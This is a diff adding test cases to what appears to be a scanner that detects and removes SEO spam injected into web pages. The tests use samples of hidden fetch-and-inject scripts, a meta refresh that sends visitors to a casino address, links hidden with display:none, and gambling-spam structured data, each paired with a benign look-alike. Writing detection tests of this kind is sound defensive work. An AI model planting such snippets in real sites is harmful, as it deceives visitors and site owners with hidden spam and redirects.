@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.signs.cases import restores, silent
+from tests.signs.cases import BODY, HEAD, TAIL, judged, restores, silent
 
 WRITES = "document.write(\"<div style='position:absolute;left:-9999px'><a href='https://a.example.net/'>lanterns</a></div>\")"
 
@@ -105,3 +105,74 @@ def test_a_layer_in_letters_of_which_the_page_has_none_goes(names: tuple[str, ..
 )
 def test_a_layer_for_guests_from_abroad_stays(names: tuple[str, ...]) -> None:
     silent(body=_layer(*names))
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        (
+            '<div class="lnkbox" style="display:none"></div><script>$.get("https://lists.example.net/l.html",function(d)'
+            '{$(".lnkbox").html(d)})</script>'
+        ),
+        (
+            '<p class="kq" hidden></p><script>fetch("https://lists.example.net/l").then(r=>r.text()).then(t=>'
+            '{document.getElementsByClassName("kq")[0].innerHTML=t})</script>'
+        ),
+        (
+            '<script>async function z(){const r=await fetch("https://li.example.net/l.php?d="+location.hostname);'
+            'const h=await r.text();const e=document.createElement("div");e.style.cssText="position:absolute;top:-9999px";'
+            "e.innerHTML=h;document.body.appendChild(e)}z()</script>"
+        ),
+    ],
+)
+def test_what_is_fetched_into_hidden_boxes_of_a_class_or_of_its_own_making(piece: str) -> None:
+    restores(body=piece, rule="fetched-block")
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        '<div class="weather"></div><script>$.get("https://sky.example.net/",function(d){$(".weather").html(d)})</script>\n',
+        (
+            '<script>fetch("https://sky.example.net/now").then(r=>r.text()).then(t=>{const e=document.createElement("div");'
+            'e.style.cssText="padding:4px";e.innerHTML=t;document.body.appendChild(e)})</script>\n'
+        ),
+    ],
+)
+def test_what_is_fetched_for_people_stays(piece: str) -> None:
+    silent(body=piece)
+
+
+def test_a_page_of_few_words_that_leads_to_what_is_sold() -> None:
+    restores(head='<meta http-equiv="refresh" content="0;url=https://a.example.net/casino">\n', rule="foreign-refresh")
+
+
+def test_a_page_of_few_words_may_lead_to_where_its_owner_went() -> None:
+    silent(head='<meta http-equiv="refresh" content="0;url=https://library.example.net/">\n')
+
+
+@pytest.mark.parametrize("tag", ["u", "strong", "em", "font"])
+def test_a_hidden_link_in_a_mark_is_shown_whatever_it_is_called(tag: str) -> None:
+    _, findings, _ = judged(
+        f'{HEAD}{BODY}<{tag} style="display: none;"><a href="https://a.example.net/">lantern movie</a></{tag}>\n{TAIL}'
+    )
+    assert [finding.disposition for finding in findings] == ["review"]
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        '<strong style="display:none"><a href="/news">all news</a></strong>\n',
+        '<em class="more" style="display:none"><a href="https://a.example.net/">more of it</a></em>\n',
+        '<span style="display:none"><a href="https://a.example.net/">permanent address</a></span>\n',
+    ],
+)
+def test_hidden_marks_that_lead_home_or_have_a_name_stay(link: str) -> None:
+    silent(body=link)
+
+
+def test_data_without_a_context_is_read() -> None:
+    data = (
+        '{"@type":"Product","name":"Situs Slot Gacor Hari Ini","brand":"x","alternateName":"Bandar Togel Terpercaya"}'
+    )
+    restores(body=f'<script type="application/ld+json">{data}</script>', rule="spam-data")
